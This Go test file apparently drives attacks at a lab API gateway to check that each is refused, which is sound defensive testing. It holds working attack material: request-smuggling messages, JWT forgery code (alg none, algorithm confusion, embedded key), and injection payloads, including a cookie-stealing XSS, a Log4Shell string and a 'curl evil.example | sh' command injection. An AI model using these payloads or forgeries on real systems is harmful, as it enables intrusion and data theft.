package player

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"time"

	"sallyport.dev"
	"sallyport.dev/test/lab/issuer"
)

func decodeJSON(r io.Reader, v any) error { return json.NewDecoder(io.LimitReader(r, 1<<20)).Decode(v) }

// An Attack is a named way in that the gateway must turn away at one stage.
type Attack struct {
	Name  string
	Stage sallyport.Stage // the stage that must refuse it
	Want  []int           // statuses that count as turned away
	Send  func(ctx context.Context, a *Attacker) (Seen, error)
}

// An Attacker sends attacks from an address of its own. It may ask the lab's
// issuer for spoilt tokens; Client is a client of that issuer with all scopes,
// Reader one that may only read, Noisy one that calls too often.
type Attacker struct {
	*Player
	Issuer                *issuer.Issuer
	Client, Reader, Noisy string
	Good                  string // target of a GET that is allowed
	List                  string // target of a GET that takes an integer named page
	Create                string // target of a POST that takes a JSON object
	CreateBody            string // a body that Create accepts
	Text                  string // name of a free text in it
	Forbidden             string // target of a DELETE that Reader's scopes don't cover
}

const attackSource = "127.0.0.66"

func (a *Attacker) client(source string) *http.Client {
	return &http.Client{Transport: a.transport(source, false), Timeout: 10 * time.Second}
}

type change func(*http.Request)

func (a *Attacker) request(ctx context.Context, method, target, body, token string, edits ...change) (Seen, error) {
	return a.requestFrom(ctx, attackSource, method, target, body, token, edits...)
}

func (a *Attacker) requestFrom(ctx context.Context, source, method, target, body, token string, edits ...change) (Seen, error) {
	var r io.Reader
	if body != "" {
		r = strings.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, a.scheme()+"://"+a.Gateway+target, r)
	if err != nil {
		return Seen{}, err
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for _, e := range edits {
		e(req)
	}
	c := a.client(source)
	defer c.CloseIdleConnections()
	return a.send(c, req)
}

func (a *Attacker) good(ctx context.Context, method, target, body string, edits ...change) (Seen, error) {
	t, err := a.Issuer.Token(a.Client, "RS256", nil)
	if err != nil {
		return Seen{}, err
	}
	return a.request(ctx, method, target, body, t, edits...)
}

// forged sends the allowed GET with a token spoilt by edit before it is signed,
// and then by the function after.
func (a *Attacker) forged(ctx context.Context, edit func(h, c map[string]any), after func(token string) (string, error)) (Seen, error) {
	t, err := a.Issuer.Token(a.Client, "RS256", edit)
	if err == nil && after != nil {
		t, err = after(t)
	}
	if err != nil {
		return Seen{}, err
	}
	return a.request(ctx, http.MethodGet, a.Good, "", t)
}

// raw writes bytes as they are and reads one answer.
func (a *Attacker) raw(ctx context.Context, message string) (Seen, error) {
	c, err := dial(ctx, attackSource, a.Gateway)
	if err != nil {
		return Seen{}, err
	}
	defer c.Close()
	if a.Roots != nil {
		cfg := a.tlsConfig()
		cfg.NextProtos = []string{"http/1.1"}
		c = tls.Client(c, cfg)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	// A refusal may come, and the connection end, before all is written.
	_, werr := io.WriteString(c, strings.ReplaceAll(message, "HOST", a.Host))
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		if werr != nil {
			err = werr
		}
		return Seen{}, err
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	return Seen{res.StatusCode, res.Header.Get("X-Request-Id"), b}, nil
}

// burst repeats a request, at most n times, until it is told to slow down.
func burst(n int, once func() (Seen, error)) (Seen, error) {
	var s Seen
	var err error
	for range n {
		if s, err = once(); err != nil || s.Status == http.StatusTooManyRequests {
			return s, err
		}
	}
	return s, err
}

func withField(body, name string, value any) string {
	var m map[string]any
	if json.Unmarshal([]byte(body), &m) != nil {
		m = map[string]any{}
	}
	m[name] = value
	b, _ := json.Marshal(m)
	return string(b)
}

// Attacks is the list that the lab mixes in, by stage.
func Attacks() []Attack {
	get := func(target func(*Attacker) string, edits ...change) func(context.Context, *Attacker) (Seen, error) {
		return func(ctx context.Context, a *Attacker) (Seen, error) {
			return a.good(ctx, http.MethodGet, target(a), "", edits...)
		}
	}
	post := func(body func(*Attacker) string) func(context.Context, *Attacker) (Seen, error) {
		return func(ctx context.Context, a *Attacker) (Seen, error) {
			return a.good(ctx, http.MethodPost, a.Create, body(a))
		}
	}
	raw := func(message string) func(context.Context, *Attacker) (Seen, error) {
		return func(ctx context.Context, a *Attacker) (Seen, error) { return a.raw(ctx, message) }
	}
	forged := func(edit func(h, c map[string]any), after func(string) (string, error)) func(context.Context, *Attacker) (Seen, error) {
		return func(ctx context.Context, a *Attacker) (Seen, error) { return a.forged(ctx, edit, after) }
	}
	same := func(a *Attacker) string { return a.Good }
	query := func(q string) func(*Attacker) string { return func(a *Attacker) string { return a.List + "?" + q } }
	field := func(value any) func(*Attacker) string {
		return func(a *Attacker) string { return withField(a.CreateBody, a.Text, value) }
	}
	header := func(name, value string) change {
		return func(r *http.Request) { r.Header.Set(name, value) }
	}
	head := "GET / HTTP/1.1\r\nHost: HOST\r\n"
	return slices.Concat([]Attack{
		{"smuggle-length-and-chunked", sallyport.StageRequest, []int{400}, raw("POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG")},
		{"smuggle-two-lengths", sallyport.StageRequest, []int{400}, raw("POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello")},
		{"smuggle-bare-line-feed", sallyport.StageRequest, []int{400}, raw("GET / HTTP/1.1\nHost: HOST\n\n")},
		{"smuggle-folded-header", sallyport.StageRequest, []int{400}, raw(head + "X-One: a\r\n b\r\n\r\n")},
		{"header-flood", sallyport.StageRequest, []int{431}, raw(head + strings.Repeat("X-Pad: "+strings.Repeat("a", 4000)+"\r\n", 60) + "\r\n")},
		{"foreign-host", sallyport.StageIdentify, []int{404, 421}, get(same, func(r *http.Request) { r.Host = "elsewhere.example" })},
		{"undeclared-method", sallyport.StageIdentify, []int{405}, func(ctx context.Context, a *Attacker) (Seen, error) {
			return a.good(ctx, http.MethodPatch, a.Good, "{}")
		}},
		{"encoded-dot-segments", sallyport.StageInspect, []int{400, 403}, get(func(*Attacker) string { return "/v4/images/%2e%2e/%2e%2e/etc/passwd" })},
		{"client-burst", sallyport.StageLimit, []int{429}, func(ctx context.Context, a *Attacker) (Seen, error) {
			c := a.client("127.0.0.67")
			defer c.CloseIdleConnections()
			return burst(2000, func() (Seen, error) {
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.scheme()+"://"+a.Gateway+a.Good, nil)
				if err != nil {
					return Seen{}, err
				}
				return a.send(c, req)
			})
		}},
		{"no-token", sallyport.StageAuthenticate, []int{401}, func(ctx context.Context, a *Attacker) (Seen, error) {
			return a.request(ctx, http.MethodGet, a.Good, "", "")
		}},
		{"token-alg-none", sallyport.StageAuthenticate, []int{401}, forged(func(h, _ map[string]any) { h["alg"] = "none" }, dropSignature)},
		{"token-expired", sallyport.StageAuthenticate, []int{401}, forged(func(_, c map[string]any) { c["exp"] = time.Now().Add(-time.Hour).Unix() }, nil)},
		{"token-foreign-audience", sallyport.StageAuthenticate, []int{401}, forged(func(_, c map[string]any) { c["aud"] = "another-api" }, nil)},
		{"token-stripped-signature", sallyport.StageAuthenticate, []int{401}, forged(nil, dropSignature)},
		{"token-changed-subject", sallyport.StageAuthenticate, []int{401}, forged(nil, func(t string) (string, error) {
			return swapClaim(t, "sub", "administrator")
		})},
		{"token-embedded-key", sallyport.StageAuthenticate, []int{401}, func(ctx context.Context, a *Attacker) (Seen, error) {
			t, err := embeddedKey(a)
			if err != nil {
				return Seen{}, err
			}
			return a.request(ctx, http.MethodGet, a.Good, "", t)
		}},
		{"token-algorithm-confusion", sallyport.StageAuthenticate, []int{401}, forged(func(h, _ map[string]any) { h["alg"] = "HS256" }, func(t string) (string, error) {
			return resignHMAC(t, []byte("a public key used as a shared secret"))
		})},
		{"missing-scope", sallyport.StageAuthorise, []int{403}, func(ctx context.Context, a *Attacker) (Seen, error) {
			t, err := a.Issuer.Token(a.Reader, "RS256", nil)
			if err != nil {
				return Seen{}, err
			}
			return a.request(ctx, http.MethodDelete, a.Forbidden, "", t)
		}},
		{"principal-burst", sallyport.StageLimit, []int{429}, func(ctx context.Context, a *Attacker) (Seen, error) {
			t, err := a.Issuer.Token(a.Noisy, "RS256", nil)
			if err != nil {
				return Seen{}, err
			}
			c := a.client("127.0.0.68")
			defer c.CloseIdleConnections()
			return burst(2000, func() (Seen, error) {
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, a.scheme()+"://"+a.Gateway+a.Good, nil)
				if err != nil {
					return Seen{}, err
				}
				req.Header.Set("Authorization", "Bearer "+t)
				return a.send(c, req)
			})
		}},
		{"body-wrong-type", sallyport.StageValidate, []int{400, 422}, post(field([]int{1, 2}))},
		{"body-not-json", sallyport.StageValidate, []int{400}, post(func(*Attacker) string { return `{"summary": ` })},
		{"body-duplicate-key", sallyport.StageValidate, []int{400}, post(func(a *Attacker) string {
			return `{"` + a.Text + `": "a", ` + strings.Replace(a.CreateBody, "{", "", 1)
		})},
		{"body-nested-too-deep", sallyport.StageValidate, []int{400, 422}, post(func(a *Attacker) string {
			return withField(a.CreateBody, a.Text, json.RawMessage(strings.Repeat("[", 5000)+strings.Repeat("]", 5000)))
		})},
		{"body-oversize", sallyport.StageValidate, []int{413}, post(func(a *Attacker) string {
			return withField(a.CreateBody, a.Text, strings.Repeat("a", 12<<20))
		})},
		{"parameter-wrong-type", sallyport.StageValidate, []int{400, 422}, get(query("page=first"))},
		{"parameter-twice", sallyport.StageValidate, []int{400, 422}, get(query("page=1&page=2"))},
	}, []Attack{
		{"sql-injection-body", sallyport.StageInspect, []int{403}, post(field("x' OR '1'='1' UNION SELECT login, secret FROM accounts -- "))},
		{"sql-injection-header", sallyport.StageInspect, []int{403}, get(same, header("X-Filter", "1; DROP TABLE tenants--"))},
		{"script-injection-body", sallyport.StageInspect, []int{403}, post(field(`"><svg onload=fetch('//evil.example/'+document.cookie)>`))},
		{"log4shell-header", sallyport.StageInspect, []int{403}, get(same, header("User-Agent", "${jndi:${lower:l}dap://evil.example/a}"))},
		{"path-traversal-body", sallyport.StageInspect, []int{403}, post(field("../../../../etc/shadow"))},
		{"command-injection-body", sallyport.StageInspect, []int{403}, post(field("web; curl http://evil.example/x.sh | sh"))},
		{"template-injection-body", sallyport.StageInspect, []int{403}, post(field("{{ ''.__class__.__mro__[1].__subclasses__() }}"))},
	})
}

func dropSignature(t string) (string, error) { return t[:strings.LastIndexByte(t, '.')+1], nil }

func swapClaim(t, name string, value any) (string, error) {
	parts := strings.Split(t, ".")
	raw, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return "", err
	}
	parts[1] = base64.RawURLEncoding.EncodeToString([]byte(withField(string(raw), name, value)))
	return strings.Join(parts, "."), nil
}

func resignHMAC(t string, key []byte) (string, error) {
	input := t[:strings.LastIndexByte(t, '.')]
	m := hmac.New(sha256.New, key)
	m.Write([]byte(input))
	return input + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil)), nil
}

// embeddedKey signs a token with a key of the attacker's own and offers that
// key in the header (CVE-2018-0114).
func embeddedKey(a *Attacker) (string, error) {
	own, err := issuer.New(a.Issuer.URL, a.Issuer.Audience, []issuer.Client{{ID: a.Client, Subject: "administrator", Scopes: []string{"*"}}})
	if err != nil {
		return "", err
	}
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	b64 := base64.RawURLEncoding.EncodeToString
	return own.Token(a.Client, "RS256", func(h, _ map[string]any) {
		h["jwk"] = map[string]string{"kty": "EC", "crv": "P-256", "x": b64(k.X.FillBytes(make([]byte, 32))), "y": b64(k.Y.FillBytes(make([]byte, 32)))}
	})
}

// Blocked reports whether the attack was turned away as it must be.
func (at *Attack) Blocked(s Seen) bool { return slices.Contains(at.Want, s.Status) }

// Problem is the short title of a refusal's body, for people.
func (s Seen) Problem() string {
	var p struct{ Title string }
	if json.NewDecoder(bytes.NewReader(s.Body)).Decode(&p) != nil || p.Title == "" {
		return fmt.Sprintf("status %d", s.Status)
	}
	return fmt.Sprintf("%d %s", s.Status, p.Title)
}
